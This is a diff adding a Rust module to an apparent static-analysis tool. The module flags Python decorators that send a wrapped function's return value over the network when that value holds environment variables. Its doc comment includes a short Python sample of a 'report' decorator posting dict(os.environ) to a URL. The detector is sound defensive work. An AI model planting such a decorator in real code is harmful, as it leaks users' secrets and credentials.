@@ -1,0 +1,165 @@
+//! Decorators that send what the function they wrap returns (M1, RT13-06): the flow is in no
+//! single scope, since the wrapper calls the function it was given and posts the result, and
+//! the decorated function only returns the environment.
+//!
+//! ```python
+//! def report(fn):
+//!     def wrapper(*a):
+//!         r = fn(*a)
+//!         requests.post(URL, data=r)
+//!         return r
+//!     return wrapper
+//!
+//! @report
+//! def collect():
+//!     return dict(os.environ)
+//! ```
+//!
+//! A function is a *sender* when it, or a function defined in it, makes a network call whose
+//! arguments hold a call of its first parameter (`fn(*a)`), directly or through a name assigned
+//! from one. A *factory* (`def report(url): def deco(fn): …; return deco`, used as
+//! `@report(URL)`) is a function one of whose inner functions is a sender. A function decorated
+//! with a sender (by name, or a factory called) whose return carries environment data is M1,
+//! at the decorator's line, as grave as sending that value directly. Within one file:
+//! decorators imported from another module are not followed.
+
+use std::collections::HashSet;
+
+use tree_sitter::Node;
+
+use super::Out;
+use super::collect::{Collected, Scope};
+use super::names::Kind;
+use super::resolve::Ctx;
+use super::resolve::label::exfiltration_severity;
+use super::rules::Call;
+use crate::model::Rule;
+
+/// Record an M1 finding for each function decorated with a sender that returns environment
+/// data. `calls` are the scopes' resolved calls, in `col.scopes`' order.
+pub(super) fn decorated_senders(
+    ctx: &Ctx<'_>,
+    col: &Collected<'_>,
+    calls: &[Vec<Call<'_>>],
+    out: &mut Out<'_>,
+) {
+    if col.scopes.iter().all(|s| s.decorators.is_empty()) {
+        return;
+    }
+    let senders: HashSet<usize> = (1..col.scopes.len())
+        .filter(|&i| is_sender(ctx, col, calls, i))
+        .collect();
+    if senders.is_empty() {
+        return;
+    }
+    let sender_names: HashSet<&str> = senders
+        .iter()
+        .filter_map(|&i| col.scopes.get(i).map(|s| s.name.as_str()))
+        .collect();
+    let factory_names: HashSet<&str> = senders
+        .iter()
+        .filter_map(|&i| col.scopes.get(i)?.parent)
+        .filter_map(|p| col.scopes.get(p).map(|s| s.name.as_str()))
+        .collect();
+    let returns = ctx.returns_map();
+    for f in col.scopes.iter().skip(1) {
+        let Some(labels) = returns.get(&f.name) else {
+            continue;
+        };
+        let Some(severity) = exfiltration_severity(*labels) else {
+            continue;
+        };
+        for d in &f.decorators {
+            let named = match d.kind() {
+                "identifier" => sender_names.contains(ctx.text(*d)),
+                "call" => d.child_by_field_name("function").is_some_and(|n| {
+                    n.kind() == "identifier" && factory_names.contains(ctx.text(n))
+                }),
+                _ => false,
+            };
+            if named {
+                out.finding(
+                    Rule::EnvExfiltration,
+                    severity,
+                    *d,
+                    format!(
+                        "`{}` returns environment data and is decorated with `{}`, which sends what the function it wraps returns over the network",
+                        f.name,
+                        ctx.text(*d)
+                    ),
+                );
+            }
+        }
+    }
+}
+
+/// Whether scope `i` (a function with a first parameter) or a function defined in it sends the
+/// result of calling that parameter.
+fn is_sender(ctx: &Ctx<'_>, col: &Collected<'_>, calls: &[Vec<Call<'_>>], i: usize) -> bool {
+    let Some(param) = col.scopes.get(i).and_then(|s| s.params.first()) else {
+        return false;
+    };
+    col.scopes
+        .iter()
+        .enumerate()
+        .filter(|(j, s)| *j == i || s.parent == Some(i))
+        .take(16)
+        .any(|(j, s)| {
+            let carried = carried_names(ctx, s, param);
+            calls.get(j).is_some_and(|cs| {
+                cs.iter()
+                    .filter(|c| matches!(c.kind, Some(Kind::Network | Kind::NetClient)))
+                    .any(|c| {
+                        c.node
+                            .child_by_field_name("arguments")
+                            .is_some_and(|a| holds_result(ctx, a, param, &carried))
+                    })
+            })
+        })
+}
+
+/// The names `scope` assigns from an expression holding a call of `param`.
+fn carried_names(ctx: &Ctx<'_>, scope: &Scope<'_>, param: &str) -> HashSet<String> {
+    let mut out = HashSet::new();
+    for (target, value) in &scope.assigns {
+        if out.len() >= 64 {
+            break;
+        }
+        if holds_result(ctx, *value, param, &out) {
+            out.extend(ctx.target_names(*target));
+        }
+    }
+    out
+}
+
+/// Whether `expr` holds a call of `param`, or a name in `carried`.
+fn holds_result(ctx: &Ctx<'_>, expr: Node<'_>, param: &str, carried: &HashSet<String>) -> bool {
+    let mut stack = vec![expr];
+    while let Some(n) = stack.pop() {
+        if !ctx.tick() {
+            return false;
+        }
+        match n.kind() {
+            "call" => {
+                if n.child_by_field_name("function")
+                    .is_some_and(|f| f.kind() == "identifier" && ctx.text(f) == param)
+                {
+                    return true;
+                }
+                let mut c = n.walk();
+                stack.extend(n.named_children(&mut c));
+            }
+            "identifier" => {
+                if carried.contains(ctx.text(n)) {
+                    return true;
+                }
+            }
+            "lambda" | "comment" => {}
+            _ => {
+                let mut c = n.walk();
+                stack.extend(n.named_children(&mut c));
+            }
+        }
+    }
+    false
+}
